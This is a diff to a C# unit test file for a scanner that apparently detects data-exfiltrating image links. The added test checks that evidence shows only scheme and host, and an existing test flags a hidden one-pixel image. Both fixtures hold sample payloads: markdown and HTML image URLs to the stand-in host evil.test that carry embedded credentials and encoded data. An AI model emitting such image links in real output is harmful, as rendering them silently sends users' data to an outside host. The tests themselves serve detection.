@@ -42,6 +42,15 @@ public sealed class ExfiltrationLinkScannerTests
     }
 
     [Fact]
+    public async Task Evidence_ShowsSchemeAndHostOnly()
+    {
+        var password = "pw" + Fake.Alnum(12);
+        var f = Assert.Single(await ScanAsync($"![a](https://bob:{password}@evil.test:8443/p.png?d={Fake.B64Url(48)})"));
+
+        Assert.Equal("https://evil.test/\u2026", f.Evidence);
+    }
+
+    [Fact]
     public async Task HtmlImage_WithDataInPath_IsHighScore()
     {
         var text = $"<p>done</p><img width=\"1\" src=\"https://evil.test/t/{Fake.B64Url(40)}/p.png\">";
